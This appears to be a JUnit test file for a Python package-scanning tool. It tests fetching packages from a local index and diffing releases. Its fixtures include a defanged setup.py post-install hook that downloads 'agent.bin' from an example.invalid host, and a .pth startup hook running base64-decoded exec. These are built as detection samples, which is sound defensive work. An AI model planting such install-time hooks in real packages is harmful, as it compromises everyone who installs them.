package dev.kingsnake.cli;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.ConcurrentHashMap;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Fetch by name and by lock file from a PEP 691 index served on loopback by the test, and release diffs of
 * packages built by the test (defanged: hosts under example.invalid, nothing runnable).
 */
class FetchAndDiffTest {
    private static final ObjectMapper JSON = new ObjectMapper();

    /** One file on the test index: its bytes and the sha-256 the index lists for it. */
    record Listed(String project, String filename, byte[] bytes, String listedSha256) {
    }

    private final Map<String, Listed> files = new ConcurrentHashMap<>();
    private HttpServer server;
    private String index;

    @TempDir
    Path tmp;

    @BeforeEach
    void start() throws IOException {
        server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        server.createContext("/simple/", this::page);
        server.createContext("/files/", ex -> {
            Listed f = files.get(ex.getRequestURI().getPath().substring("/files/".length()));
            send(ex, f == null ? 404 : 200, f == null ? new byte[0] : f.bytes(), "application/octet-stream");
        });
        server.start();
        index = "http://127.0.0.1:" + server.getAddress().getPort() + "/simple/";
    }

    @AfterEach
    void stop() {
        server.stop(0);
    }

    private void page(HttpExchange ex) throws IOException {
        String project = ex.getRequestURI().getPath().substring("/simple/".length()).replace("/", "");
        ObjectNode page = JSON.createObjectNode();
        page.putObject("meta").put("api-version", "1.1");
        page.put("name", project);
        ArrayNode list = page.putArray("files");
        for (Listed f : files.values()) {
            if (f.project().equals(project)) {
                ObjectNode o = list.addObject().put("filename", f.filename()).put("url", "/files/" + f.filename())
                        .put("upload-time", "2026-12-01T10:00:00Z").put("size", f.bytes().length);
                o.putObject("hashes").put("sha256", f.listedSha256());
            }
        }
        if (list.isEmpty()) {
            send(ex, 404, new byte[0], "text/plain");
            return;
        }
        send(ex, 200, JSON.writeValueAsBytes(page), "application/vnd.pypi.simple.v1+json");
    }

    private static void send(HttpExchange ex, int status, byte[] body, String type) throws IOException {
        ex.getResponseHeaders().add("Content-Type", type);
        ex.sendResponseHeaders(status, body.length == 0 ? -1 : body.length);
        try (OutputStream out = ex.getResponseBody()) {
            out.write(body);
        }
    }

    private void publish(String project, String filename, byte[] bytes) {
        files.put(filename, new Listed(project, filename, bytes, sha256(bytes)));
    }

    // ---- packages built by the test ----

    private static final String CLEAN_INIT = "def greet(name):\n    return 'hello ' + name\n";

    private static byte[] wheel(String version, Map<String, String> extra, List<String> requires) throws IOException {
        Map<String, String> entries = new LinkedHashMap<>();
        entries.put("demo/__init__.py", CLEAN_INIT);
        StringBuilder meta = new StringBuilder("Metadata-Version: 2.1\nName: demo\nVersion: " + version
                + "\nSummary: A greeting library\nAuthor: Demo Author\nAuthor-email: demo@example.invalid\n"
                + "Home-page: https://example.invalid/demo\n");
        requires.forEach(r -> meta.append("Requires-Dist: ").append(r).append('\n'));
        entries.put("demo-" + version + ".dist-info/METADATA", meta + "\nLong description.\n");
        entries.put("demo-" + version + ".dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\n"
                + "Tag: py3-none-any\n");
        entries.putAll(extra);
        StringBuilder record = new StringBuilder();
        for (Map.Entry<String, String> e : entries.entrySet()) {
            byte[] b = e.getValue().getBytes(StandardCharsets.UTF_8);
            record.append(e.getKey()).append(",sha256=").append(java.util.Base64.getUrlEncoder().withoutPadding()
                    .encodeToString(digest(b))).append(',').append(b.length).append('\n');
        }
        record.append("demo-").append(version).append(".dist-info/RECORD,,\n");
        entries.put("demo-" + version + ".dist-info/RECORD", record.toString());
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (Map.Entry<String, String> e : entries.entrySet()) {
                ZipEntry z = new ZipEntry(e.getKey());
                z.setTime(0);
                zip.putNextEntry(z);
                zip.write(e.getValue().getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
            }
        }
        return bytes.toByteArray();
    }

    private static byte[] sdist(String version, String setupPy) throws IOException {
        String root = "demo-" + version + "/";
        Map<String, String> entries = new LinkedHashMap<>();
        entries.put(root + "PKG-INFO", "Metadata-Version: 2.1\nName: demo\nVersion: " + version
                + "\nSummary: A greeting library\nAuthor: Demo Author\nAuthor-email: demo@example.invalid\n"
                + "Home-page: https://example.invalid/demo\n\nLong description.\n");
        entries.put(root + "setup.py", setupPy);
        entries.put(root + "demo/__init__.py", CLEAN_INIT);
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (TarArchiveOutputStream tar = new TarArchiveOutputStream(new GZIPOutputStream(bytes))) {
            for (Map.Entry<String, String> e : entries.entrySet()) {
                byte[] b = e.getValue().getBytes(StandardCharsets.UTF_8);
                TarArchiveEntry t = new TarArchiveEntry(e.getKey());
                t.setSize(b.length);
                tar.putArchiveEntry(t);
                tar.write(b);
                tar.closeArchiveEntry();
            }
        }
        return bytes.toByteArray();
    }

    private static final String CLEAN_SETUP = "from setuptools import setup\n\nsetup(name='demo', version='1.0', "
            + "packages=['demo'])\n";
    /** A post-install downloader, defanged: the host never resolves and nothing fetched is run. */
    private static final String DOWNLOADER_SETUP = "import urllib.request\n"
            + "from setuptools import setup\nfrom setuptools.command.install import install\n\n\n"
            + "class PostInstall(install):\n    def run(self):\n        install.run(self)\n"
            + "        urllib.request.urlretrieve('https://updates.example.invalid/agent.bin', '/tmp/agent.bin')\n\n\n"
            + "setup(name='demo', version='1.1', packages=['demo'], cmdclass={'install': PostInstall})\n";

    private Path file(String name, byte[] bytes) throws IOException {
        Path p = tmp.resolve(name);
        Files.write(p, bytes);
        return p;
    }

    private static KingsnakeCommandTest.Run run(String... args) {
        return KingsnakeCommandTest.run(args);
    }

    // ---- diff ----

    @Test
    void aReleaseAgainstItselfHasNoDrift() throws Exception {
        Path a = file("demo-1.0-py3-none-any.whl", wheel("1.0", Map.of(), List.of("requests>=2")));
        Path b = Files.createDirectories(tmp.resolve("copy")).resolve(a.getFileName());
        Files.copy(a, b);
        KingsnakeCommandTest.Run r = run("diff", "-f", "json", a.toString(), b.toString());
        r.assertNoStackTrace();
        assertEquals(0, r.code(), r.err());
        JsonNode d = JSON.readTree(r.out());
        assertEquals("BENIGN", d.path("verdict").asText());
        assertEquals(0.0, d.path("drift").asDouble());
        assertEquals(0, d.path("files").size(), d.toString());
        assertEquals(0, d.path("newFindings").size(), d.toString());
        assertEquals(0, d.path("newCapabilities").size(), d.toString());
        assertEquals(0, d.path("metadata").size(), d.toString());
        assertEquals(0, d.path("standouts").size(), d.toString());
    }

    @Test
    void anInjectedStartupHookStandsOutAtTheTop() throws Exception {
        Path a = file("demo-1.0-py3-none-any.whl", wheel("1.0", Map.of(), List.of()));
        Path b = file("demo-1.1-py3-none-any.whl", wheel("1.1", Map.of(
                "demo-startup.pth", "import demo._boot\n",
                "demo/_boot.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"), List.of()));
        KingsnakeCommandTest.Run text = run("diff", a.toString(), b.toString());
        text.assertNoStackTrace();
        assertEquals(1, text.code(), text.out() + text.err());
        String[] lines = text.out().split("\n");
        assertTrue(lines[0].startsWith("MALICIOUS"), text.out());
        assertTrue(lines[3].contains("!! new start-up hook: demo-startup.pth"), text.out());
        assertTrue(text.out().contains("!! new execution of decoded data: demo/_boot.py"), text.out());
        assertTrue(text.out().contains("A demo-startup.pth"), text.out());

        JsonNode d = JSON.readTree(run("diff", "-f", "json", a.toString(), b.toString()).out());
        assertTrue(ids(d.path("newCapabilities")).contains("KS-CAP-INSTALL-HOOK"), d.toString());
        assertEquals("IMPORT_TIME", capability(d, "KS-CAP-INSTALL-HOOK").path("reach").asText());
        // the versioned dist-info directory pairs across releases: only real content changes are listed
        List<String> changed = new ArrayList<>();
        d.path("files").forEach(f -> changed.add(f.path("change").asText() + " " + f.path("path").asText()));
        assertTrue(changed.contains("ADDED demo-startup.pth"), changed.toString());
        assertFalse(changed.stream().anyMatch(c -> c.endsWith("demo/__init__.py")), changed.toString());

        JsonNode sarif = JSON.readTree(run("diff", "-f", "sarif", a.toString(), b.toString()).out());
        JsonNode first = sarif.path("runs").get(0).path("results").get(0);
        assertEquals("KS-DIFF-STANDOUT", first.path("ruleId").asText(), sarif.toString());
        assertEquals("error", first.path("level").asText());
    }

    @Test
    void aPostInstallDownloaderIsInstallTimeNetwork() throws Exception {
        Path a = file("demo-1.0.tar.gz", sdist("1.0", CLEAN_SETUP));
        Path b = file("demo-1.1.tar.gz", sdist("1.1", DOWNLOADER_SETUP));
        KingsnakeCommandTest.Run r = run("diff", "-f", "json", a.toString(), b.toString());
        r.assertNoStackTrace();
        JsonNode d = JSON.readTree(r.out());
        assertTrue(d.path("standouts").get(0).asText().startsWith("new install-time network access: demo-1.1/setup.py"),
                d.toString());
        assertEquals("INSTALL_TIME", capability(d, "KS-CAP-NETWORK-CLIENT").path("reach").asText(), d.toString());
        assertTrue(d.path("drift").asDouble() >= 5.0, d.toString());
        assertEquals("MALICIOUS", d.path("verdict").asText());
        assertEquals(1, r.code());
        List<String> changed = new ArrayList<>();
        d.path("files").forEach(f -> changed.add(f.path("change").asText() + " " + f.path("path").asText()));
        // PKG-INFO names the new version; the package code is the same
        assertEquals(List.of("CHANGED demo-{version}/PKG-INFO", "CHANGED demo-{version}/setup.py"), changed);
    }

    @Test
    void aNewDependencyIsMetadataDriftNotMalice() throws Exception {
        Path a = file("demo-1.0-py3-none-any.whl", wheel("1.0", Map.of(), List.of("requests>=2")));
        Path b = file("demo-1.1-py3-none-any.whl", wheel("1.1", Map.of(), List.of("requests>=2",
                "colour-helper-tools (>=0.1)")));
        KingsnakeCommandTest.Run r = run("diff", "-f", "json", a.toString(), b.toString());
        JsonNode d = JSON.readTree(r.out());
        assertEquals(1, d.path("metadata").size(), d.toString());
        JsonNode m = d.path("metadata").get(0);
        assertEquals("Requires-Dist", m.path("field").asText());
        assertEquals("", m.path("old").asText());
        assertEquals("colour-helper-tools>=0.1", m.path("new").asText());
        assertEquals(0, d.path("standouts").size());
        assertEquals("BENIGN", d.path("verdict").asText());
        assertEquals(0, r.code());
        // --fail-on suspicious does not change a benign change's exit code
        assertEquals(0, run("diff", "--fail-on", "suspicious", a.toString(), b.toString()).code());
    }

    // ---- fetch by name ----

    @Test
    void fetchByNameRecordsWhereEachFileCameFrom() throws Exception {
        byte[] whl = wheel("1.0", Map.of(), List.of());
        byte[] newer = wheel("1.2", Map.of(), List.of());
        publish("demo", "demo-1.0-py3-none-any.whl", whl);
        publish("demo", "demo-1.2-py3-none-any.whl", newer);
        publish("demo", "demo-1.0.tar.gz", sdist("1.0", CLEAN_SETUP));
        Path cache = tmp.resolve("cache");
        KingsnakeCommandTest.Run r = run("scan", "-f", "jsonl", "-q", "--cache-dir", cache.toString(),
                "--index", index, "demo==1.0");
        r.assertNoStackTrace();
        assertEquals(0, r.code(), r.err());
        List<JsonNode> results = r.jsonl();
        assertEquals(2, results.size(), r.out()); // every file of the release
        for (JsonNode res : results) {
            JsonNode origin = res.path("origin");
            assertTrue(origin.path("url").asText().startsWith("http://127.0.0.1:"), res.toString());
            assertEquals("2026-12-01T10:00:00Z", origin.path("uploadTime").asText());
            String name = Path.of(res.path("input").asText()).getFileName().toString();
            assertEquals(files.get(name).listedSha256(), origin.path("sha256").asText());
            assertEquals("1.0", res.path("version").asText());
        }
        // unpinned: the newest release; --platform any: wheels only
        KingsnakeCommandTest.Run newest = run("scan", "-f", "jsonl", "-q", "--cache-dir", cache.toString(),
                "--platform", "any", "--index", index, "demo");
        List<JsonNode> only = newest.jsonl();
        assertEquals(1, only.size(), newest.out() + newest.err());
        assertEquals("1.2", only.get(0).path("version").asText());
    }

    @Test
    void diffOfTwoReleasesFetchedByName() throws Exception {
        publish("demo", "demo-1.0-py3-none-any.whl", wheel("1.0", Map.of(), List.of()));
        publish("demo", "demo-1.0.tar.gz", sdist("1.0", CLEAN_SETUP));
        publish("demo", "demo-1.1-py3-none-any.whl", wheel("1.1", Map.of("demo-startup.pth", "import demo._boot\n"),
                List.of()));
        KingsnakeCommandTest.Run r = run("diff", "-f", "json", "--fail-on", "suspicious", "--cache-dir",
                tmp.resolve("cache").toString(), "--index", index, "demo", "1.0", "1.1");
        r.assertNoStackTrace();
        assertEquals(1, r.code(), r.out() + r.err());
        JsonNode d = JSON.readTree(r.out());
        // the wheels pair (1.1 has no sdist), and the new start-up hook stands out
        assertTrue(d.path("old").path("input").asText().endsWith("demo-1.0-py3-none-any.whl"), d.toString());
        assertTrue(d.path("standouts").get(0).asText().startsWith("new start-up hook"), d.toString());
        // a start-up hook alone (an import line) is suspicious, not malicious: real packages add .pth files too
        assertEquals("SUSPICIOUS", d.path("verdict").asText(), d.toString());
        assertEquals(2, run("diff", "--cache-dir", tmp.resolve("cache").toString(), "--index", index, "demo", "1.0",
                "9.9").code());
    }

    @Test
    void fetchByLockFiles() throws Exception {
        publish("demo", "demo-1.0-py3-none-any.whl", wheel("1.0", Map.of(), List.of()));
        Path cache = tmp.resolve("cache");
        Path requirements = Files.writeString(tmp.resolve("requirements.txt"),
                "# pinned\n--index-url https://ignored.example.invalid/simple\ndemo==1.0 ; python_version >= '3.8'"
                        + " \\\n    --hash=sha256:00\n");
        Path uvLock = Files.writeString(tmp.resolve("uv.lock"), "version = 1\n\n[[package]]\nname = \"demo\"\n"
                + "version = \"1.0\"\nsource = { registry = \"https://pypi.org/simple\" }\n\n[[package]]\n"
                + "name = \"myapp\"\nversion = \"0.1.0\"\nsource = { editable = \".\" }\n");
        Path pylock = Files.writeString(tmp.resolve("pylock.toml"), "lock-version = \"1.0\"\ncreated-by = \"test\"\n\n"
                + "[[packages]]\nname = \"demo\"\nversion = \"1.0\"\n");
        Path poetry = Files.writeString(tmp.resolve("poetry.lock"), "[[package]]\nname = \"demo\"\nversion = \"1.0\"\n"
                + "description = \"\"\noptional = false\n");
        for (Path lock : List.of(requirements, uvLock, pylock, poetry)) {
            KingsnakeCommandTest.Run r = run("scan", "-f", "jsonl", "-q", "--cache-dir", cache.toString(),
                    "--index", index, "-r", lock.toString());
            r.assertNoStackTrace();
            assertEquals(0, r.code(), lock + ": " + r.err());
            List<JsonNode> results = r.jsonl();
            assertEquals(1, results.size(), lock + ": " + r.out() + r.err());
            assertEquals("demo", results.get(0).path("name").asText());
            assertTrue(results.get(0).has("origin"), results.get(0).toString());
        }
    }

    @Test
    void aHashMismatchIsRefusedAndNothingIsScannedOrCached() throws Exception {
        byte[] whl = wheel("1.0", Map.of(), List.of());
        files.put("demo-1.0-py3-none-any.whl", new Listed("demo", "demo-1.0-py3-none-any.whl", whl,
                sha256("something else".getBytes(StandardCharsets.UTF_8))));
        Path cache = tmp.resolve("cache");
        KingsnakeCommandTest.Run r = run("scan", "-f", "jsonl", "-q", "--cache-dir", cache.toString(),
                "--index", index, "demo==1.0");
        r.assertNoStackTrace();
        assertTrue(r.err().contains("sha-256"), r.err());
        assertEquals("", r.out().strip());
        assertEquals(2, r.code(), "nothing was scanned: a usage/IO outcome");
        try (Stream<Path> s = Files.walk(cache)) {
            assertEquals(List.of(), s.filter(Files::isRegularFile).toList());
        }
    }

    @Test
    void realBenignWheelsFetchedByNameScanLikeTheLocalFile() throws Exception {
        Path corpus = Optional.ofNullable(System.getenv("KINGSNAKE_CORPUS")).map(Path::of)
                .orElse(Path.of("..", "..", "shared", "corpus")).resolve("benign-dev");
        Assumptions.assumeTrue(Files.isDirectory(corpus), "no ../shared/corpus/benign-dev");
        List<Path> wheels;
        try (Stream<Path> s = Files.list(corpus)) {
            wheels = s.filter(p -> p.getFileName().toString().endsWith("-none-any.whl"))
                    .filter(p -> p.toFile().length() < 300_000).sorted().limit(3).toList();
        }
        Assumptions.assumeFalse(wheels.isEmpty(), "no small pure wheels in the corpus");
        for (Path w : wheels) {
            String filename = w.getFileName().toString();
            String project = filename.substring(0, filename.indexOf('-')).toLowerCase().replace('_', '-');
            String version = filename.split("-")[1];
            publish(project, filename, Files.readAllBytes(w));
            KingsnakeCommandTest.Run fetched = run("scan", "-f", "jsonl", "-q", "--cache-dir",
                    tmp.resolve("cache").toString(), "--index", index, project + "==" + version);
            KingsnakeCommandTest.Run local = run("scan", "-f", "jsonl", "-q", w.toString());
            JsonNode a = fetched.jsonl().get(0);
            JsonNode b = local.jsonl().get(0);
            assertEquals(b.path("verdict"), a.path("verdict"), filename);
            assertEquals(b.path("score"), a.path("score"), filename);
            assertEquals(b.path("findings").size(), a.path("findings").size(), filename);
        }
    }

    private static List<String> ids(JsonNode caps) {
        List<String> out = new ArrayList<>();
        caps.forEach(c -> out.add(c.path("id").asText()));
        return out;
    }

    private static JsonNode capability(JsonNode diff, String id) {
        for (JsonNode c : diff.path("newCapabilities")) {
            if (c.path("id").asText().equals(id)) {
                return c;
            }
        }
        return JSON.createObjectNode();
    }

    private static byte[] digest(byte[] b) {
        try {
            return MessageDigest.getInstance("SHA-256").digest(b);
        } catch (java.security.NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String sha256(byte[] b) {
        return HexFormat.of().formatHex(digest(b));
    }
}
